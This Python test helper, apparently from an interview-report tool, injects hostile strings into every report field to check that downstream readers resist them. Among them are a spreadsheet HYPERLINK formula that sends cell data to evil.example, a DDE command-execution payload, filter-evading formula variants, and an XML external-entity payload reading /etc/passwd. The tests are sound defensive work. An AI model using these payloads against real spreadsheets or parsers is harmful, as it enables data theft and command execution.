"""Candidates who attack the programs that read the reports."""

from __future__ import annotations

from dataclasses import replace

from interview.reports.result_values import received
from report.samples import BLOCKED, CRASH, OURS, PRIORITY, ROUTING, scorecard

from archprep.core.model import Evidence, Frame
from archprep.interview.model import Graded, Result

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@x",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\x1b[31m=1",
    "\uff1d1+1",
    "harmless;=1+1",
    'quoted";  =1',
]


ALSO = ["\ufffe\uffff", "]]><x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"]


def hostile(text: str) -> Result:
    """A candidate who puts this text wherever a candidate can."""
    frame = Frame(text, 1, text, text)
    evidence = Evidence(given=text, difference=text, message=text, frames=(frame,), output=text)
    failed = replace(PRIORITY, expected=text, observed=text, evidence=evidence)
    crash = replace(CRASH, observed=text, evidence=evidence)
    scored = Graded("q1", scorecard(ROUTING, failed, crash, BLOCKED, OURS), source={text: text})
    about = received(
        text, slug="c1", flags=(text,), superseded=(text,), source=text, reported={text: [text]}
    )
    return Result(about, (scored, Graded("q3", problem=text)))
